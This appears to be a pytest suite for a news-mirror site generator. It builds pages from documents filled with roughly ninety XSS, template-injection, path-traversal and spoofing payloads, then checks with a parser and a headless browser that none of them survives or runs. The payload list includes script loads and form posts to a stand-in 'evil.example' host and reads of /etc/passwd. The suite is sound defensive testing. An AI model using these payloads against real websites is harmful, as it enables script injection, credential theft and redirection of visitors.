"""Documents that mean harm, in the shapes of mirrors: built into a site, of which every page is looked through.

The checks are those of `tests.sites.checks.dangers`; a control shows that they find the attacks in the raw documents.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request

from generator.build import build
from generator.models import Report
from tests.sites.checks import Site, dangers, elements, first, text_of

#: Attacks in the body of a document: name -> HTML.
BODIES = {
    # scripts
    "script": "<script>alert(1)</script>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "script upper case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with slash": "<script/x>alert(1)</script>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script module": '<script type="module">import("https://evil.example/x.js")</script>',
    "script after null": "<scr\0ipt>alert(1)</script>",
    "script in entities": "&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>",
    "unclosed tag": '<img src="x" onerror="alert(1)"',
    # handlers
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror slashes": "<img/src=x/onerror=alert(1)>",
    "img onerror line break": "<img src=x\nonerror\n=\nalert(1)>",
    "img onerror backtick": "<img src=`x` onerror=`alert(1)`>",
    "picture with handler": '<img src="https://pictures.example/a.jpg" onload="alert(1)" alt="x">',
    "alt that ends the tag": '<img src="https://pictures.example/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
    "alt with tags": '<img src="https://pictures.example/a.jpg" alt="&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "alt that looks like src": '<img alt=\'src="x" onerror="alert(1)\' src="https://pictures.example/a.jpg">',
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video onerror": "<video><source onerror=alert(1)></video>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "autofocus onfocus": '<a id=x tabindex=1 autofocus onfocus=alert(1) href="https://a.example/">x</a>',
    "css animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "custom element": "<x-y onclick=alert(1) is=z>x</x-y>",
    "handler with odd space": "<p \x0conclick=alert(1)>x</p>",
    # schemes
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript with entity": '<a href="&#106;avascript&#58;alert(1)">x</a>',
    "javascript with hex entity": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "javascript with tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript with line break": '<a href="java&NewLine;script:alert(1)">x</a>',
    "javascript with control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript with zero width": '<a href="\u200bjavascript:alert(1)">x</a>',
    "javascript in img": '<img src="javascript:alert(1)">',
    "javascript in span": '<span href="javascript:alert(1)">x</span>',
    "javascript in area": '<map name="m"><area href="javascript:alert(1)"></map><img usemap="#m" src="https://pictures.example/a.jpg">',
    "javascript in lazy src": '<img src="data:image/gif;base64,x" data-src="javascript:alert(1)">',
    "javascript in cite": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "javascript in background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "javascript with comment": '<a href="javascript://a.example/%0aalert(1)">x</a>',
    "javascript percent": '<a href="https://a.example/" xlink:href="javascript:alert(1)">x</a>',
    "data page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "file": '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
    "blob": '<a href="blob:https://a.example/1">x</a>',
    "view-source": '<a href="view-source:javascript:alert(1)">x</a>',
    "scheme-relative": '<a href="//evil.example/x">x</a><img src="//evil.example/x.jpg">',
    "backslashes": '<a href="\\\\evil.example\\x">x</a>',
    "user in address": '<a href="https://bank.example@evil.example/">x</a>',
    "media upwards": '<img src="media:../../../etc/passwd"><a href="media:../site.toml">x</a>',
    "media absolute": '<img src="media:/etc/passwd.png"><img src="media://evil.example/a.png">',
    "picture upwards": '<img src="../../../../../../etc/hostname.png"><img src="..%2f..%2fsecret.png">',
    "srcset": '<img srcset="javascript:alert(1) 1x, https://pictures.example/a.jpg 2x">',
    "mailto with headers": '<a href="mailto:a@b.example?body=x%0d%0aBcc:evil@c.example">x</a>',
    # foreign content and parsers that disagree
    "svg": "<svg onload=alert(1)></svg>",
    "svg script": "<svg><script>alert&#40;1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "math href": '<math href="javascript:alert(1)">x</math>',
    "form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment with bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "select": "<select><template><img src=x onerror=alert(1)></template></select>",
    "pre with tags": "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre><script>alert(1)</script>",
    # what loads, sends, or changes the page
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="default-src *"><base href=x>',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="https://evil.example/">',
    "style": "<style>body{display:none}@import 'https://evil.example/x.css'</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "form": '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe javascript": "<iframe src=javascript:alert(1)></iframe>",
    "object": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    "ping": '<a href="https://a.example/" ping="https://evil.example/">x</a>',
    "download": '<a href="https://a.example/" download="x.exe" target="_blank">x</a>',
    "dialog": "<dialog open><form method=dialog><button>x</button></form></dialog>",
    "clobbering": '<a id="main" name="documentElement" href="https://a.example/">x</a><form id="body" name="cookie"></form><a href="#main">y</a>',
    "frameset": '<frameset onload=alert(1)><frame src="https://evil.example/"></frameset>',
    "lang that ends the attribute": '<span lang="&quot;><script>alert(1)</script>" onclick=alert(1)>x</span>',
    "id that ends the attribute": '<a href="#a&quot; onclick=&quot;alert(1)">x</a><p id="a&quot; onclick=&quot;alert(1)">y</p><script>1</script>',
    "address that ends the attribute": '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
    "caption": '<figure><img src="https://pictures.example/a.jpg"><figcaption><script>alert(1)</script>&lt;img src=x onerror=alert(1)&gt;</figcaption></figure>',
}
#: In these, what stands behind the attack is swallowed by it, for a browser as well.
SWALLOWING = {
    "unclosed tag",
    "math",
    "frameset",
    "form in form",
    "script in script",
    "script after null",
    "comment that ends early",
}
#: These are harmless as they are written; a step that takes an escape off twice would make them dangerous.
ESCAPED = {
    "alt that ends the tag",
    "alt with tags",
    "javascript with zero width",
    "picture upwards",
    "address that ends the attribute",
}
#: Texts that are harmless as text and must be shown as such.
TEXTS = {
    "template": "{{ 7191*7193 }} {{7191*7193}} {% raw %} {{ config }} {# c #} ${7191*7193} <%= 7191*7193 %>",
    "tags": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "ends attribute": "\"><img src=x onerror=alert(1)> ' onclick=alert(1) x='",
    "ends title": "</title><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "line breaks": "first\\nurl: https://evil.example/\\n---\\n<script>alert(1)</script>",
}
#: Directional controls, which make a text show in an order that it is not written in, and what hides in texts.
_CONTROLS = re.compile(r"[\u200e\u200f\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_NAMES = "甲乙丙丁戊己庚辛壬癸子丑寅卯辰巳午未申酉戌亥天地玄黄宇宙洪荒"


@dataclass(frozen=True)
class Attack:
    """A document of the attacked site and the harmless words in it."""

    path: str
    text: str
    words: tuple[str, ...]
    bites: bool = True  # the checks must find it in the raw document


def words_for(number: int) -> tuple[str, str]:
    """Harmless paragraphs of their own for each document, so that nothing repeats."""
    name = "".join(_NAMES[int(digit, 5)] + _NAMES[9 + int(digit, 5) * 2] for digit in _base5(number))
    return (
        f"守夜人{name}在潮水退去以前写完了这一段平常的话，然后把灯点亮。",
        f"清晨{name}又写了一段平常的话，说昨夜的风已经停了，船也回来了。",
    )


def _base5(number: int) -> str:
    return str(number % 5) if number < 5 else _base5(number // 5) + str(number % 5)


def wrapped(shape: str, number: int, title: str, body: str) -> str:
    """A document in the shape of a mirror."""
    url = f"https://daily.example/{2000 + number % 20}/05/{1 + number % 28:02}/attack-{number}.html"
    return {
        "hexo": f"---\ntitle: {title}\ncategories: [传统媒体, 日报 - 国际]\nauthor: 日报\ncomments: false\nthumbnail: ''\ndate: 2020-05-0{1 + number % 9}\n---\n\n<div>{body}</div>\n",
        "jekyll": f"---\nlayout: post\ntitle: {title}\nfrom: {url}\ncategories: [ 日报 ]\n---\n<!--1588291200000-->\n[{title}]({url})\n------\n\n{body}\n",
        "crawl": f"<!--1588291200000-->\n[{title}]({url})\n------\n\n<div>{body}</div>\n",
        "rows": f"### {title}\n------------------------\n\n#### [首页](https://host.example/README.md) | [要闻](https://host.example/indexes/要闻.md)\n\n<div>{body}</div>\n\n<hr/>\n手机上长按并复制下列链接：<br/>\n原文链接：{url}\n",
        "page": f"<!doctype html><html><head><title>{title}</title><link rel=canonical href={url}></head><body><article><h1>{title}</h1>{body}</article></body></html>",
    }[shape]


SHAPES = ("hexo", "jekyll", "crawl", "rows", "page")


def body_attacks() -> list[Attack]:
    """Every attack on the body in one shape, in turn."""
    attacks = []
    for number, (name, markup) in enumerate(BODIES.items()):
        before, after = words_for(number)
        shape = SHAPES[number % len(SHAPES)]
        text = wrapped(shape, number, f"第{number}号文章", f"<p>{before}</p>\n{markup}\n<p>{after}</p>")
        attacks.append(
            Attack(
                f"{shape}/{number}.{'html' if shape == 'page' else 'md'}",
                text,
                (before,) if name in SWALLOWING else (before, after),
            )
        )
    return attacks


def text_attacks() -> list[Attack]:
    """Every text where a document says something of itself: title, author, tags, section, source, picture, address."""
    attacks = []
    for number, value in enumerate(TEXTS.values(), 200):
        before, after = words_for(number)
        body = f"<p>{before}</p><p>{after}</p>"
        quoted = json.dumps(value, ensure_ascii=False).replace("\\\\n", "\\n")
        front = "\n".join(f"{key}: {quoted}" for key in ("title", "author", "site", "headimg", "url", "date", "layout"))
        attacks.append(
            Attack(
                f"front/{number}.md",
                f"---\n{front}\ntags: [{quoted}, b]\ncategories: [{quoted}]\n---\n{body}",
                (before, after),
                False,
            )
        )
        head = {
            "@type": "NewsArticle",
            "headline": value,
            "author": {"name": value},
            "publisher": {"name": value},
            "articleSection": value,
            "url": value,
        }
        shown = value.replace("</", "<\\/").replace("\\n", "\n")
        text = json.dumps(head, ensure_ascii=False).replace("</", "<\\/")
        more = words_for(number + 50)
        page = f'<!doctype html><html><head><script type="application/ld+json">{text}</script><meta name=keywords content="{_attribute(shown)}"></head><body><p>{more[0]}</p><p>{more[1]}</p></body></html>'
        attacks.append(Attack(f"heads/{number}.html", page, more, False))
    return attacks


def _attribute(value: str) -> str:
    return value.replace("&", "&amp;").replace('"', "&quot;")


def odd_attacks() -> list[Attack]:
    """File names with markup, directional controls, front matter inside of bodies."""
    samples = {
        "odd/<img src=x onerror=alert(1)>.md": "<p>%s</p><p>%s</p>",
        "odd/\"onclick=alert(1) x='.md": "<p>%s</p><p>%s</p>",
        "odd/{{7191*7193}}{%x%}.md": "<p>%s</p><p>%s</p>",
        "<b>mirror<b>/&lt;script&gt;.md": "<p>%s</p><p>%s</p>",
        "odd/controls.md": '---\ntitle: "abc\\u202Egpj.exe \\u2066x"\nauthor: "name\\u202Eeman"\ntags: ["tag\\u202Egat"]\n---\n<p>\u202e\u2066%s</p><p>\u200f%s</p>',
        "odd/inner.md": '---\ntitle: outer\n---\n---\ntitle: "<script>alert(1)</script>"\nurl: javascript:alert(1)\n---\n<p>%s</p><p>%s</p>',
        "odd/markdown.md": '### [x](javascript:alert(1))\n------------------------\n\n%s\n\n![x](javascript:alert(1)) <https://a.example/"onclick=alert(1)> [y](data:text/html,x)\n\n%s\n\n原文链接：javascript:alert(1)\n',
    }
    return [
        Attack(path, text % words_for(number), words_for(number), False)
        for number, (path, text) in enumerate(samples.items(), 300)
    ]


ATTACKS = [*body_attacks(), *text_attacks(), *odd_attacks()]


@dataclass(frozen=True)
class Attacked:
    """The attacked site, and what its build said."""

    site: Site
    report: Report


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    """Build a site of nothing but attacks."""
    folder = tmp_path_factory.mktemp("attacked")
    for attack in ATTACKS:
        file = folder / "content" / attack.path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(attack.text.encode())
    (folder / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\nsecret")
    report = build(folder / "content", folder / "public", jobs=1, base_url="https://news.example/")
    return Attacked(Site(folder / "public"), report)


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 80
    assert len({attack.path for attack in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("name", [name for name in BODIES if name not in ESCAPED])
def test_control_the_checks_find_every_attack_in_the_raw_document(name: str) -> None:
    """Proof that the checks below can fail."""
    assert dangers(f"<p>x</p>{BODIES[name]}")


def test_control_the_checks_pass_harmless_pages() -> None:
    assert (
        dangers(
            '<!doctype html>\n<html lang="en"><body><p>1 &lt; 2 <a href="https://a.example/?a=1&amp;b=2">x</a><img src="a.png" alt=""></p></body></html>'
        )
        == []
    )


def test_every_attack_becomes_an_article(attacked: Attacked) -> None:
    """Otherwise the checks below would look at nothing."""
    left_out = {one.path: one.reason for one in attacked.report.left_out}
    assert left_out == {}
    assert attacked.report.articles == len(ATTACKS)


def test_no_page_holds_anything_dangerous(attacked: Attacked) -> None:
    found = {page: faults for page in attacked.site.pages if (faults := dangers(attacked.site.markup(page)))}
    assert found == {}


def test_ids_of_documents_cannot_stand_for_ours(attacked: Attacked) -> None:
    for page in attacked.site.pages:
        ids = [element.get("id", "") for element in elements(attacked.site.tree(page)) if element.get("id") is not None]
        assert ids[0] == "main"
        assert all(re.fullmatch(r"a-[\w.:-]+|p-\d+|topic-[a-z-]+|search-(box|hint)", name) for name in ids[1:]), (
            page,
            ids,
        )


def test_nothing_is_evaluated(attacked: Attacked) -> None:
    shown = 0
    for page in attacked.site.pages:
        text = text_of(attacked.site.tree(page))
        assert str(7191 * 7193) not in re.sub(r"\D", "", text), page
        shown += "{{7191*7193}}" in text
    assert shown


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.path)
def test_harmless_words_beside_an_attack_survive(attacked: Attacked, attack: Attack) -> None:
    page = next(
        page
        for page in attacked.site.pages
        if page.startswith("zh-hans/articles/") and _source(attacked.site, page) == attack.path
    )
    prose = first(attacked.site.tree(page), ".prose")
    assert prose is not None
    for words in attack.words:
        assert words in text_of(prose)


def _source(site: Site, page: str) -> str:
    return text_of(site.tree(page).cssselect("dl.facts .document code")[0])


def test_titles_are_shown_as_they_are_written(attacked: Attacked) -> None:
    pages = {_source(attacked.site, page): page for page in attacked.site.pages if page.startswith("en/articles/")}
    for number, value in enumerate(TEXTS.values(), 200):
        title = text_of(attacked.site.tree(pages[f"front/{number}.md"]).cssselect("h1")[0])
        written = " ".join(value.replace("\\n", " ").replace("&lt;", "<").replace("&gt;", ">").split())
        assert title.startswith(written[:20])
        assert attacked.site.markup(pages[f"front/{number}.md"]).count("<script") == 6  # ours, and the page's data


def test_no_directional_control_reaches_a_page(attacked: Attacked) -> None:
    found = {
        page: sorted(map(ascii, set(_CONTROLS.findall(attacked.site.markup(page))))) for page in attacked.site.pages
    }
    assert {page: controls for page, controls in found.items() if controls} == {}


def test_pictures_come_from_the_content_or_from_the_web(attacked: Attacked) -> None:
    assert not [path for path in attacked.site.paths if path.startswith("media/")]
    for page in attacked.site.pages:
        for image in elements(attacked.site.tree(page), "img"):
            assert re.match(r"https?://[a-z]|[./]*static/", image.get("src", "")), (page, image.get("src"))


def test_links_lead_to_the_web_with_their_marks(attacked: Attacked) -> None:
    seen = 0
    for page in attacked.site.pages:
        for link in elements(attacked.site.tree(page), "a"):
            if re.match(r"https?:", link.get("href", "")):
                assert {"noopener", "noreferrer", "nofollow"} <= set(link.get("rel", "").split()), (
                    page,
                    link.get("href"),
                )
                assert "@" not in link.get("href", "").split("/")[2]
                seen += 1
    assert seen


def test_paths_of_pages_are_plain(attacked: Attacked) -> None:
    assert [path for path in attacked.site.paths if not re.fullmatch(r"[A-Za-z0-9/._-]+", path) or ".." in path] == []


_OURS = re.compile(
    r"/static/(settings|reader|article|find|offline|favicon)\.\w+\?v=|/en/panel\.js\?v=|/static/[\w-]+\.css\?v="
)


@dataclass
class Watch:
    """A page that obeys no content security policy, and what ran on it or was asked for."""

    page: Page
    ran: list[str]

    def dialog(self, dialog: Dialog) -> None:
        """Note a dialog: a script ran."""
        self.ran.append(f"{self.page.url}: {dialog.message}")
        dialog.dismiss()

    def request(self, request: Request) -> None:
        """Note what a harmless page does not ask for."""
        if request.resource_type not in ("document", "stylesheet", "image") and not _OURS.search(request.url):
            self.ran.append(f"{self.page.url}: {request.resource_type} {request.url}")


@pytest.fixture
def watch(browser: Browser) -> Iterator[Watch]:
    """Yield a page that runs whatever there is to run, off the web."""
    context = browser.new_context(bypass_csp=True)
    context.route(re.compile(r"^https?:"), lambda route: route.abort())
    watching = Watch(context.new_page(), [])
    watching.page.on("dialog", watching.dialog)
    watching.page.on("request", watching.request)
    yield watching
    context.close()


@pytest.mark.slow
def test_a_browser_that_obeys_no_policy_runs_nothing(attacked: Attacked, watch: Watch) -> None:
    """What the parser says is harmless is harmless in Chromium, even with our content security policy switched off."""
    for path in (path for path in attacked.site.pages if path.startswith("en/articles/")):
        address = (attacked.site.folder / path).as_uri()
        watch.page.goto(address)
        for link in watch.page.locator(".prose a").all():
            assert re.match(r"(https?|mailto):|#", link.get_attribute("href") or "")
        count = "document.querySelectorAll('iframe, object, embed, form:not(.find), svg, style, base').length"
        assert watch.page.evaluate(count) == 0
        scripts = watch.page.evaluate(
            "[...document.scripts].filter(script => script.type !== 'application/ld+json').map(script => script.src)"
        )
        assert [src for src in scripts if not _OURS.search(src)] == []
        assert watch.page.url == address
    assert watch.ran == []


@pytest.mark.slow
def test_control_a_browser_runs_the_raw_attacks(tmp_path: Path, watch: Watch) -> None:
    """Proof that the test above can fail."""
    for name in ("script", "img onerror", "svg", "comment that ends early", "details ontoggle"):
        (tmp_path / f"{name}.html").write_text(f"<!doctype html>{BODIES[name]}", "utf-8")
        watch.page.goto((tmp_path / f"{name}.html").as_uri())
        watch.page.wait_for_timeout(100)
    assert len({line.partition(": ")[0] for line in watch.ran}) == 5
